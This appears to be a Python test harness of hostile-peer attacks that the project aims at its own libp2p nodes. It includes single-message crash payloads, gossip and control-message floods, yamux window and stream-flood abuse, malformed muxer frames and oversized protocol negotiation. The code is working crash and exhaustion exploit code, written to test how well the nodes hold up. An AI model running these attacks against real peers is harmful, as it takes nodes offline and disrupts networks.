"""What a hostile peer may send, aimed at any running peer of ours.

Each attack is ``await attack(Target(...))``: it dials with a stock libp2p host (or a bare socket),
does its harm, and returns when the victim has dealt with it or a short while has passed. It never
fails because the victim hangs up. Whether the victim lives is for the caller to find out.
"""

from __future__ import annotations

import os
import struct
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass
from typing import Any, cast

import trio
from libp2p import new_host
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.custom_types import TProtocol
from libp2p.exceptions import BaseLibp2pError
from libp2p.host.basic_host import BasicHost
from libp2p.network.stream.net_stream import NetStream
from libp2p.network.swarm import Swarm
from libp2p.peer.id import ID
from libp2p.pubsub.pb import rpc_pb2
from libp2p.pubsub.validators import PUBSUB_SIGNING_PREFIX
from libp2p.security.insecure.transport import PLAINTEXT_PROTOCOL_ID, InsecureTransport
from libp2p.stream_muxer.yamux.yamux import FLAG_SYN, YAMUX_HEADER_FORMAT, Yamux
from libp2p.utils import encode_delim, encode_varint_prefixed
from multiaddr import Multiaddr

GOSSIP = TProtocol("/meshsub/1.2.0")
HARM_DONE = (BaseLibp2pError, trio.BrokenResourceError, trio.ClosedResourceError, OSError)
"""What an attacker sees when its victim hangs up."""


@dataclass(frozen=True)
class Target:
    """A running peer: one of its full addresses, a topic it follows, a protocol it serves."""

    address: str
    topic: str = ""
    protocol: str = ""

    @property
    def peer_id(self) -> ID:
        return ID.from_base58(self.address.rpartition("/p2p/")[2])

    @property
    def tcp(self) -> tuple[str, int]:
        parts = self.address.split("/")
        return parts[2], int(parts[4])


Attack = Callable[[Target], Awaitable[None]]


@dataclass(frozen=True)
class Attacker:
    """A stock host with a connection to the target, or what is left of it."""

    host: BasicHost
    target: Target

    @property
    def yamux(self) -> Yamux:
        (conn,) = self.host.get_network().get_connections(self.target.peer_id)
        return cast(Yamux, conn.muxed_conn)

    async def raw_stream(self) -> NetStream:
        """A stream on which nothing has been agreed yet."""
        return cast(NetStream, await self.host.get_network().new_stream(self.target.peer_id))

    async def stream(self, protocol: str) -> NetStream:
        return cast(
            NetStream, await self.host.new_stream(self.target.peer_id, [TProtocol(protocol)])
        )

    async def gossip(self, *packets: bytes) -> None:
        """Sends packets on one gossip stream, and waits for the victim to read or drop them."""
        stream = await self.stream(GOSSIP)
        for packet in packets:
            await stream.write(packet)
        with trio.move_on_after(0.3):  # a healthy victim says nothing on this stream
            await stream.read(1)

    def message(self, topic: str, data: bytes = b"hostile") -> rpc_pb2.Message:
        """A message that is properly signed by the attacker."""
        message = rpc_pb2.Message(
            from_id=self.host.get_id().to_bytes(), seqno=os.urandom(8), data=data, topicIDs=[topic]
        )
        signed = PUBSUB_SIGNING_PREFIX.encode() + message.SerializeToString()
        message.signature = self.host.get_private_key().sign(signed)
        message.key = self.host.get_public_key().serialize()
        return message


class Refused(Exception):
    """The target did not let the attacker connect."""


@asynccontextmanager
async def attacker(target: Target, **options: Any) -> AsyncIterator[Attacker]:
    """A stock host connected to ``target``; the victim's hanging up ends the block quietly.

    Raises:
        Refused: there was no connection to begin with.
    """
    host = cast(BasicHost, new_host(key_pair=create_new_key_pair(), **options))
    swarm = cast(Swarm, host.get_network())
    failure: Exception | None = None
    async with host.run([]):
        await swarm.auto_connector.stop()
        try:
            with trio.fail_after(10):
                try:
                    await swarm.dial_addr(Multiaddr(target.address), target.peer_id)
                except HARM_DONE as error:
                    raise Refused(str(error)) from error
                yield Attacker(host, target)
        except HARM_DONE:
            pass
        except Exception as error:  # noqa: BLE001 - raised again below, outside the nurseries
            failure = error
        finally:
            with trio.CancelScope(shield=True), trio.move_on_after(3):
                await host.close()
    if failure is not None:
        raise failure


# The five messages of which each ended a stock process


async def non_utf8_protocol(target: Target) -> None:
    async with attacker(target) as us:
        stream = await us.raw_stream()
        await stream.write(encode_delim(b"/multistream/1.0.0"))
        await stream.write(encode_varint_prefixed(b"/\xff\xfe\n"))
        await _hang_up(stream)


async def undecodable_gossip(target: Target) -> None:
    async with attacker(target) as us:
        await us.gossip(encode_varint_prefixed(b"\x0a\xff\xff\xff\xff\x0fgarbage"))


async def gossip_with_a_bad_key(target: Target) -> None:
    async with attacker(target) as us:
        message = us.message(target.topic)
        message.from_id = bytes.fromhex("1220") + os.urandom(32)  # hashed: the key is in .key
        message.key = b"\xff not a key"
        await us.gossip(_packet(publish=[message]))


async def good_gossip(target: Target) -> None:
    """Nothing wrong with it: for victims whose validator or callback raises."""
    async with attacker(target) as us:
        await us.gossip(_packet(publish=[us.message(target.topic)]))


async def an_ordinary_stream(target: Target) -> None:
    """Nothing wrong with it either: for victims whose stream handler raises."""
    async with attacker(target) as us:
        await _hang_up(await us.stream(target.protocol))


# More of gossip


async def malformed_control(target: Target) -> None:
    topic = target.topic
    control = rpc_pb2.ControlMessage()
    control.graft.add(topicID="")
    control.graft.add(topicID="never heard of")
    control.graft.add(topicID=topic)
    control.prune.add(topicID=topic, backoff=2**64 - 1)
    prune = control.prune.add(topicID=topic)
    prune.peers.add(peerID=b"\xff", signedPeerRecord=b"\xff\xff")
    control.ihave.add(topicID=topic, messageIDs=[b"", b"\xff\xfe", b"zz", b"abc", b"0" * 40])
    control.iwant.add(messageIDs=[b"", b"\xff\xfe", b"zz", b"0" * 40])
    control.idontwant.add(messageIDs=[bytes([n]) * 40 for n in range(100)])
    async with attacker(target) as us:
        await us.gossip(*(_packet(control=_only(control, name)) for name in _CONTROL))
    async with attacker(target) as us:
        await us.gossip(_packet(control=control))


async def control_floods(target: Target) -> None:
    """Of each kind of entry so many that handling them all would cost memory for good."""
    topics = [f"invented {n}" for n in range(5000)]
    ids = [struct.pack("!Q", n) * 5 for n in range(5000)]
    floods = (
        rpc_pb2.RPC(subscriptions=[rpc_pb2.RPC.SubOpts(subscribe=True, topicid=t) for t in topics]),
        rpc_pb2.RPC(
            control=rpc_pb2.ControlMessage(
                prune=[rpc_pb2.ControlPrune(topicID=topic) for topic in topics]
            )
        ),
        rpc_pb2.RPC(
            control=rpc_pb2.ControlMessage(
                graft=[rpc_pb2.ControlGraft(topicID=topic) for topic in topics]
            )
        ),
        rpc_pb2.RPC(
            control=rpc_pb2.ControlMessage(
                ihave=[rpc_pb2.ControlIHave(topicID=target.topic, messageIDs=ids)]
            )
        ),
        rpc_pb2.RPC(control=rpc_pb2.ControlMessage(iwant=[rpc_pb2.ControlIWant(messageIDs=ids)])),
    )
    for flood in floods:
        async with attacker(target) as us:
            await us.gossip(encode_varint_prefixed(flood.SerializeToString()))


async def text_that_is_not_utf8(target: Target) -> None:
    """Topic names are strings on paper and bytes on the wire."""
    subscription = b"\x0a\x06\x08\x01\x12\x02\xff\xfe"
    graft = b"\x1a\x06\x1a\x04\x0a\x02\xff\xfe"
    for packet in (subscription, graft):
        async with attacker(target) as us:
            await us.gossip(encode_varint_prefixed(packet))


async def endless_gossip(target: Target) -> None:
    async with attacker(target) as us:
        await us.gossip(b"\xff\xff\xff\x7f" + bytes(1000), bytes(200_000))
    async with attacker(target) as us:
        await us.gossip(b"\xff" * 20)


async def gossip_flood(target: Target) -> None:
    """Two thousand signed messages, as fast as they go."""
    async with attacker(target) as us:
        messages = [us.message(target.topic) for _ in range(2000)]
        packets = [_packet(publish=messages[n : n + 100]) for n in range(0, 2000, 100)]
        await us.gossip(*packets)


# Below the streams


async def plaintext(target: Target) -> None:
    """Dials without encryption, which a stock host accepts."""
    insecure = {PLAINTEXT_PROTOCOL_ID: InsecureTransport(create_new_key_pair())}
    try:
        async with attacker(target, sec_opt=insecure):
            raise AssertionError("the victim spoke without encryption")
    except Refused:
        pass


async def ignored_window(target: Target) -> None:
    """Sends 64 MiB on a stream whose reader does not read, regardless of its window."""
    async with attacker(target) as us:
        stream = await us.raw_stream()
        number = cast(Any, stream.muxed_stream).stream_id
        body = bytes(60_000)
        header = struct.pack(YAMUX_HEADER_FORMAT, 0, 0, 0, number, len(body))
        await stream.write(encode_delim(b"/multistream/1.0.0"))
        for _ in range((64 << 20) // len(body)):
            await us.yamux._write_frame(header + body)


async def stream_flood(target: Target) -> None:
    """Opens a thousand streams and agrees on nothing on any of them."""
    async with attacker(target) as us:
        for number in range(1001, 3001, 2):
            syn = struct.pack(YAMUX_HEADER_FORMAT, 0, 1, FLAG_SYN, number, 0)
            await us.yamux._write_frame(syn)
        await trio.sleep(0.3)


async def muxer_garbage(target: Target) -> None:
    for frame in (
        os.urandom(500),
        struct.pack(YAMUX_HEADER_FORMAT, 0, 0, FLAG_SYN, 2**32 - 1, 2**32 - 1),
        struct.pack(YAMUX_HEADER_FORMAT, 9, 9, 9, 9, 0),
        struct.pack(YAMUX_HEADER_FORMAT, 0, 1, 0, 12345, 2**32 - 1),
    ):
        async with attacker(target) as us:
            await us.yamux._write_frame(frame)
            await trio.sleep(0.05)


async def endless_negotiation(target: Target) -> None:
    """Announces a protocol name of 4 GiB, proposes 100,000 others, and proposes nothing."""
    async with attacker(target) as us:
        stream = await us.raw_stream()
        await stream.write(encode_delim(b"/multistream/1.0.0") + b"\xff\xff\xff\xff\x0f")
        await stream.write(bytes(200_000))
        await _hang_up(stream)
    async with attacker(target) as us:
        stream = await us.raw_stream()
        await stream.write(encode_delim(b"/multistream/1.0.0"))
        await stream.write(encode_delim(b"/no/such/protocol") * 5000)
        await _hang_up(stream)


async def bytes_before_the_handshake(target: Target) -> None:
    noise = encode_delim(b"/multistream/1.0.0") + encode_delim(b"/noise")
    for opening in (
        b"GET / HTTP/1.1\r\n\r\n",
        os.urandom(4096),
        b"\xff" * 64,
        encode_varint_prefixed(b"/\xff\xfe\n"),
        noise + os.urandom(4096),
        noise + b"\x00\x00" * 100,
    ):
        with trio.move_on_after(2):
            try:
                async with await trio.open_tcp_stream(*target.tcp) as socket:
                    await socket.send_all(opening)
                    await socket.send_eof()
                    while await socket.receive_some(4096):
                        pass
            except HARM_DONE:
                pass


CRASHES: dict[str, Attack] = {
    "non_utf8_protocol": non_utf8_protocol,
    "undecodable_gossip": undecodable_gossip,
    "gossip_with_a_bad_key": gossip_with_a_bad_key,
    "good_gossip": good_gossip,
    "an_ordinary_stream": an_ordinary_stream,
}
"""Each ended a stock process with one message; the last two where validator and handler raise."""

ATTACKS: dict[str, Attack] = {
    **CRASHES,
    "malformed_control": malformed_control,
    "control_floods": control_floods,
    "text_that_is_not_utf8": text_that_is_not_utf8,
    "endless_gossip": endless_gossip,
    "gossip_flood": gossip_flood,
    "plaintext": plaintext,
    "ignored_window": ignored_window,
    "stream_flood": stream_flood,
    "muxer_garbage": muxer_garbage,
    "endless_negotiation": endless_negotiation,
    "bytes_before_the_handshake": bytes_before_the_handshake,
}

_CONTROL = ("graft", "prune", "ihave", "iwant", "idontwant")


def _only(control: rpc_pb2.ControlMessage, name: str) -> rpc_pb2.ControlMessage:
    one = rpc_pb2.ControlMessage()
    getattr(one, name).extend(getattr(control, name))
    return one


def _packet(**fields: Any) -> bytes:
    return encode_varint_prefixed(rpc_pb2.RPC(**fields).SerializeToString())


async def _hang_up(stream: NetStream) -> None:
    """Waits until the victim resets the stream, or has had half a second to do so."""
    with trio.move_on_after(0.5):
        while await stream.read(4096):
            pass
